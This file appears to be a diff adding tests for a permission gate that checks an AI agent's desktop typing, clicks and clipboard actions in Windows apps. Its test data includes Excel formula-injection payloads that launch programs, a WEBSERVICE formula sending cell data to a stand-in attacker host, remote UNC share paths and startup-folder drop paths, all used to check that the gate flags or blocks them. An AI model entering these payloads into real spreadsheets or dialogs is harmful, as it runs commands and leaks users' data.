@@ -1,0 +1,361 @@
+/** What leaves decides, not the action that lets it out: the same effect by every action, way and delivery that reaches it. */
+import { describe, expect, it } from 'vitest';
+import { ACTIONS } from '../../../../src/actions/index.ts';
+import type { AppIdentity } from '../../../../src/contract/element/binding.ts';
+import type { ElementContext } from '../../../../src/contract/element/element.ts';
+import { defaultPolicy, type Policy, type RiskTag } from '../../../../src/contract/gate/permissions.ts';
+import { exitsOf } from '../../../../src/contract/ways/exits.ts';
+import { passGate } from '../../../../src/policy/gate/gate.ts';
+import type { GateSubject } from '../../../../src/policy/gate/gate-types.ts';
+import {
+  bound,
+  CHROME,
+  context,
+  element,
+  failure,
+  NOTEPAD,
+  subject,
+  TERMINAL,
+  testWorld,
+  type TestWorld,
+} from '../world.ts';
+
+const app = (executable: string, displayName: string): AppIdentity => ({
+  bundleId: executable.toLowerCase(),
+  displayName,
+  executable,
+});
+const EXCEL = app('C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', 'Excel');
+const EXPLORER = app('C:\\Windows\\explorer.exe', 'Explorer');
+const IDEA = app('C:\\Program Files\\JetBrains\\bin\\idea64.exe', 'IntelliJ IDEA');
+const UNKNOWN = app('C:\\Tools\\console-like.exe', 'Tool');
+
+const BY_METHOD = new Map(ACTIONS.map((definition) => [definition.method, definition]));
+
+function call(method: string, input: object): GateSubject {
+  const definition = BY_METHOD.get(method)!;
+  const parsed = definition.input.parse(input) as never;
+  return subject(definition.traits(parsed, { isBound: true }), { action: method, input: parsed });
+}
+
+interface Place {
+  readonly app?: AppIdentity;
+  readonly className?: string;
+  readonly policy?: Partial<Policy>;
+}
+
+/** At level `full`, as shipped, with the flags that typing needs. */
+function at(
+  seen: ElementContext | null,
+  { app: of = NOTEPAD, className = 'Main', policy = {} }: Place = {},
+): TestWorld {
+  const world = testWorld({
+    policy: { ...defaultPolicy('full'), flags: ['clipboardWrite'], ...policy },
+    app: of,
+    seen,
+  });
+  world.live = bound(of, { className });
+  return world;
+}
+
+/** Tags of the last card; null if no person was asked; the code of a refusal. */
+async function result(one: GateSubject, world: TestWorld): Promise<readonly RiskTag[] | string | null> {
+  const before = world.cards.length;
+  try {
+    await passGate(one, world);
+  } catch (error) {
+    return (error as { code: string }).code;
+  }
+  return world.cards.length > before ? (world.cards.at(-1)?.riskTags ?? []) : null;
+}
+
+const DANGEROUS = context(element('Edit', 'Reason', { source: 'window' }), {
+  dialogTitle: 'Delete the account?',
+  defaultButtonName: 'Delete',
+  receiver: { family: 'control', part: 'plain', takes: 'edit' },
+});
+
+describe('[exit.keys] text that a way sends as keys is judged as keys', () => {
+  const ENTERS = ['x\n', 'x\r', 'x\r\n', '\n', '\t\n', 'x\ty'];
+  const REAL: ReadonlyArray<readonly [string, (text: string) => object]> = [
+    ['typeIntoElement', (text) => ({ name: 'Reason', text, delivery: 'foreground' })],
+    ['typeIntoElement', (text) => ({ name: 'Reason', text, mode: 'append', delivery: 'foreground' })],
+    ['type', (text) => ({ text })],
+    ['type', (text) => ({ text, delivery: 'foreground' })],
+    ['virtualKeyboard', (text) => ({ action: 'type', text })],
+  ];
+  for (const [method, input] of REAL) {
+    it.each(ENTERS)(`${method} ${JSON.stringify(input('…'))} with %j is asked at full`, async (text) => {
+      expect(await result(call(method, input(text)), at(DANGEROUS))).toContain('destructive');
+    });
+  }
+
+  it('a field that takes it as text presses nothing; a surface that takes characters may', async () => {
+    const one = call('typeIntoElement', { name: 'Reason', text: 'x\n' });
+    expect(await result(one, at(DANGEROUS))).toBeNull();
+    for (const takes of ['custom', 'characters'] as const) {
+      const seen = { ...DANGEROUS, receiver: { family: 'control', part: 'plain', takes } } as const;
+      expect(await result(one, at(seen))).toContain('destructive');
+    }
+  });
+
+  it('no earlier approval of text covers a line break, another delivery or another kind of element', async () => {
+    const world = at(context(element('Edit', 'Reason')), { policy: { level: 'control' } });
+    world.answer = () => ({ scope: 'window', minutes: 60 });
+    const text = (more: object): GateSubject => call('typeIntoElement', { name: 'Reason', text: 'x', ...more });
+    expect(await result(text({}), world)).not.toBeNull();
+    world.answer = () => ({});
+    expect(await result(text({ text: 'other' }), world)).toBeNull();
+    expect(await result(text({ delivery: 'foreground' }), world)).not.toBeNull();
+    expect(await result(text({ text: 'x\n', delivery: 'foreground' }), world)).not.toBeNull();
+    world.seen = context(element('DataItem', 'A1'));
+    expect(await result(text({}), world)).not.toBeNull();
+  });
+});
+
+describe('[exit.keyboard] what earlier calls left on the keyboard counts for the next one, text included', () => {
+  const FIELD = context(element('Edit', 'Notes'), {
+    menu: 'closed',
+    reachable: [
+      {
+        controlType: 'Button',
+        name: 'Delete rows',
+        automationId: '',
+        isPassword: false,
+        isInMenu: false,
+        isInComboBox: false,
+      },
+    ],
+  });
+  const TEXTS: readonly GateSubject[] = [
+    call('type', { text: 'hdr' }),
+    call('type', { text: 'hdr', delivery: 'foreground' }),
+    call('virtualKeyboard', { action: 'type', text: 'hdr' }),
+    call('key', { keySequence: 'h d r' }),
+    call('typeIntoElement', { name: 'Notes', text: 'hdr', delivery: 'foreground' }),
+  ];
+  it.each(['alt', 'f10', 'apps', 'lalt'])('after %s alone, each text may choose from a menu', async (alone) => {
+    for (const text of TEXTS) {
+      // A click into a field closes menus before it is typed into.
+      if (text.action === 'typeIntoElement') continue;
+      const world = at(FIELD);
+      await passGate(call('key', { keySequence: alone }), world);
+      expect(await result(text, world), JSON.stringify(text.input)).toContain('destructive');
+    }
+  });
+
+  it('Escape and a click end that, and a field with the focus does once keys went to the menu', async () => {
+    for (const end of [call('key', { keySequence: 'escape' }), call('clickElement', { name: 'Notes' })]) {
+      const world = at(FIELD);
+      await passGate(call('key', { keySequence: 'alt' }), world);
+      await passGate(end, world);
+      expect(await result(call('type', { text: 'hdr' }), world)).toBeNull();
+    }
+    const world = at(FIELD);
+    await passGate(call('key', { keySequence: 'alt' }), world);
+    await passGate(call('key', { keySequence: 'h d r' }), world);
+    expect(await result(call('type', { text: 'hdr' }), world)).toBeNull();
+  });
+
+  it('a modifier that is held makes combinations of a text', async () => {
+    for (const text of [call('type', { text: 'd' }), call('virtualKeyboard', { action: 'type', text: 'd' })]) {
+      const world = at({ ...FIELD, menu: 'none' });
+      world.held = ['alt'];
+      expect(await result(text, world)).toContain('destructive');
+    }
+  });
+});
+
+describe('[exit.formula] a formula is judged by whatever way it reaches a spreadsheet', () => {
+  const CELL = context(element('DataItem', 'A1'));
+  const BAR = context(element('Edit', 'Formula Bar'));
+  const NOWHERE = context(null);
+  const ways = (text: string): ReadonlyArray<readonly GateSubject[]> => [
+    [call('writeCell', { name: 'Grid', row: 0, column: 0, text })],
+    [call('typeIntoElement', { name: 'A1', text })],
+    [call('typeIntoElement', { name: 'A1', text, delivery: 'foreground' })],
+    [call('typeIntoElement', { name: 'A1', text, mode: 'append' })],
+    [call('type', { text })],
+    [call('type', { text, viaClipboard: true })],
+    [call('virtualKeyboard', { action: 'type', text })],
+    [call('writeClipboard', { text }), call('key', { keySequence: 'ctrl+v' })],
+    [call('writeClipboard', { text }), call('virtualKeyboard', { action: 'combo', text: 'shift+insert' })],
+    [call('type', { text: text.slice(0, 1) }), call('type', { text: text.slice(1) })],
+    [call('key', { keySequence: '=' }), call('type', { text: text.slice(1) })],
+    [call('type', { text: `a\t${text}` })],
+  ];
+  const run = async (all: readonly GateSubject[], seen: ElementContext): Promise<unknown> => {
+    const world = at(seen, { app: EXCEL });
+    let last: unknown = null;
+    for (const one of all) last = await result(one, world);
+    return last === null ? (world.records.at(-1)?.riskTags ?? []) : last;
+  };
+
+  it.each(["=cmd|' /c calc'!A0", '=CALL("kernel32","WinExec","JCJ","calc",0)', '=EXEC("calc")', '=REGISTER("a","b")'])(
+    '%s is refused at every level',
+    async (formula) => {
+      for (const seen of [CELL, BAR, NOWHERE])
+        for (const way of ways(formula))
+          expect(await run(way, seen), JSON.stringify(way.map(({ input }) => input))).toBe('blocked_by_policy');
+    },
+  );
+
+  it.each(['=WEBSERVICE("http://evil.example/?"&A1)', "='\\\\evil\\s\\[x.xlsx]A'!A1", '=HYPERLINK("http://x")'])(
+    '%s carries external_submit',
+    async (formula) => {
+      for (const way of ways(formula))
+        expect(await run(way, CELL), JSON.stringify(way.map(({ input }) => input))).toContain('external_submit');
+    },
+  );
+
+  it('more names than are looked up are refused', async () => {
+    const names = Array.from({ length: 65 }, (_, at_) => `Name_${'x'.repeat(at_ + 1)}`).join('+');
+    const error = await failure(
+      passGate(call('writeRange', { range: 'A1', values: [[{ formula: `=${names}` }]] }), at(CELL, { app: EXCEL })),
+    );
+    expect(error.code).toBe('blocked_by_policy');
+  });
+});
+
+describe('[exit.path] a path to another machine is asked wherever it is typed', () => {
+  const PATHS = [
+    '\\\\evil\\share\\x',
+    '//evil/share/x',
+    'file://evil/share',
+    '\\\\evil@SSL\\DavWWWRoot\\x',
+    '\\\\?\\UNC\\evil\\s',
+  ];
+  const FIELDS: ReadonlyArray<readonly [string, ElementContext, Place]> = [
+    ['a dialog', context(element('Edit', 'File name:')), { className: '#32770' }],
+    ['a dialog with a default button', context(element('ComboBox', 'File name:'), { defaultButtonName: 'Open' }), {}],
+    ['the address bar', context(element('Edit', 'Address')), { app: EXPLORER, className: 'CabinetWClass' }],
+    [
+      'a browser’s own field',
+      context(element('Edit', 'Address'), { document: { kind: 'none', address: null } }),
+      { app: CHROME, policy: { grants: [{ app: CHROME.bundleId, tier: 'full' }] } },
+    ],
+    ['a sheet', context(element('DataItem', 'A1')), { app: EXCEL }],
+    ['a shell', context(element('Document', 'cmd')), { app: TERMINAL, className: 'ConsoleWindowClass' }],
+    ['an unknown focus', context(null), {}],
+  ];
+  const WAYS = (text: string): readonly GateSubject[] => [
+    call('typeIntoElement', { name: 'x', text }),
+    call('typeIntoElement', { name: 'x', text, delivery: 'foreground' }),
+    call('type', { text }),
+    call('type', { text, viaClipboard: true }),
+    call('virtualKeyboard', { action: 'type', text }),
+  ];
+  for (const [name, seen, place] of FIELDS) {
+    it.each(PATHS)(`${name}: %s`, async (path) => {
+      for (const one of WAYS(path)) {
+        const world = at(seen, place);
+        const found = await result(one, world);
+        expect(found, JSON.stringify(one.input)).toContain('external_submit');
+      }
+    });
+  }
+
+  it('in pieces too, and programs and startup folders where files are saved', async () => {
+    const world = at(FIELDS[0]![1], FIELDS[0]![2]);
+    await passGate(call('type', { text: '\\\\evil' }), world);
+    expect(await result(call('type', { text: '\\share\\x' }), world)).toContain('external_submit');
+    for (const text of [
+      'C:\\x\\evil.bat',
+      'report.lnk',
+      '%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.txt',
+    ])
+      for (const one of WAYS(text))
+        expect(await result(one, at(FIELDS[0]![1], FIELDS[0]![2])), text).toContain('customCommand');
+  });
+
+  it('a local path and ordinary text are not asked', async () => {
+    for (const text of ['C:\\Users\\me\\plan.txt', 'plan.txt', 'and/or'])
+      expect(await result(call('typeIntoElement', { name: 'x', text }), at(FIELDS[0]![1], FIELDS[0]![2]))).toBeNull();
+    expect(await result(call('type', { text: '\\\\evil\\x' }), at(context(element('Document', 'Text'))))).toBeNull();
+  });
+});
+
+describe('[exit.start] starting a program is known by what would happen', () => {
+  const folder: Place = { app: EXPLORER, className: 'CabinetWClass' };
+  const item = (name: string, more: Partial<ElementContext> = {}): ElementContext =>
+    context(element('ListItem', name), more);
+  const OPENING: readonly GateSubject[] = [
+    call('clickElement', { name: 'x', count: 2 }),
+    call('clickElement', { name: 'x', count: 2, delivery: 'foreground' }),
+    call('click', { x: 1, y: 1, count: 2 }),
+    call('virtualMouse', { action: 'double_click', x: 1, y: 1 }),
+    call('key', { keySequence: 'enter' }),
+    call('virtualKeyboard', { action: 'combo', text: 'enter' }),
+    call('type', { text: '\n' }),
+  ];
+  it('an item that is not known as a folder or document, by every open gesture, in any process', async () => {
+    for (const one of OPENING) {
+      expect(await result(one, at(item('invoice'), folder)), JSON.stringify(one.input)).toContain('customCommand');
+      const dialog = at(item('invoice.pdf', { opens: 'unknown' }), { className: '#32770' });
+      expect(await result(one, dialog), JSON.stringify(one.input)).toContain('customCommand');
+      for (const opens of ['folder', 'document'] as const)
+        expect(await result(one, at(item('plan', { opens }), folder)), JSON.stringify(one.input)).toBeNull();
+    }
+  });
+
+  it('a single click selects', async () => {
+    expect(await result(call('clickElement', { name: 'x' }), at(item('setup.exe'), folder))).toBeNull();
+    const exits = exitsOf(call('clickElement', { name: 'x' }).traits, item('setup.exe'));
+    expect(exits.some((exit) => exit.kind === 'press' && exit.by === 'invoke')).toBe(false);
+  });
+
+  it.each([
+    'Run as administrator',
+    'Als Administrator ausführen',
+    'Run with PowerShell',
+    '管理者として実行',
+    'Install',
+    'Открыть',
+    'Abrir',
+  ])('the menu entry %s', async (name) => {
+    for (const one of [call('clickElement', { name }), call('selectElement', { name }), call('click', { x: 1, y: 1 })])
+      expect(await result(one, at(context(element('MenuItem', name)), folder))).toContain('customCommand');
+  });
+
+  it('running as administrator is critical', async () => {
+    const world = at(context(element('MenuItem', 'Run as administrator')), folder);
+    await passGate(call('clickElement', { name: 'x' }), world);
+    expect(world.cards[0]?.riskLevel).toBe('critical');
+  });
+
+  it('the deny list holds for a program that is known to start', async () => {
+    for (const one of OPENING)
+      expect(
+        await result(one, at(item('regedit'), { ...folder, policy: { deny: ['regedit.exe'] } })),
+        JSON.stringify(one.input),
+      ).toBe('blocked_by_policy');
+  });
+
+  it('macro editors, run keys, drawn surfaces of unknown programs and remote desktops', async () => {
+    const surface = context(element('Pane', ''));
+    const lines: ReadonlyArray<readonly [ElementContext, Place]> = [
+      [context(element('Edit', 'Immediate')), { app: EXCEL, className: 'wndclass_desked_gsk' }],
+      [surface, { app: IDEA }],
+      [surface, { app: UNKNOWN }],
+      [surface, { app: app('C:\\Windows\\System32\\mstsc.exe', 'Remote Desktop') }],
+    ];
+    for (const [seen, place] of lines)
+      for (const one of [call('type', { text: 'x\n' }), call('key', { keySequence: 'enter' })])
+        expect(await result(one, at(seen, place)), place.app?.displayName).toContain('customCommand');
+    for (const place of [{ app: IDEA }, { app: EXCEL, className: 'wndclass_desked_gsk' }])
+      expect(
+        await result(call('key', { keySequence: 'f5' }), at(context(element('Document', 'code')), place)),
+      ).toContain('customCommand');
+  });
+
+  it('one earlier approval of clicks in a folder never covers another kind, an open gesture or a menu entry', async () => {
+    const world = at(item('plan', { opens: 'folder' }), { ...folder, policy: { level: 'control' } });
+    world.answer = () => ({ scope: 'window', minutes: 60 });
+    await passGate(call('clickElement', { name: 'plan' }), world);
+    world.answer = () => ({});
+    expect(await result(call('clickElement', { name: 'plan' }), world)).toBeNull();
+    expect(await result(call('clickElement', { name: 'plan', count: 2 }), world)).not.toBeNull();
+    world.seen = context(element('MenuItem', 'Run as administrator'));
+    expect(await result(call('clickElement', { name: 'x' }), world)).not.toBeNull();
+  });
+});
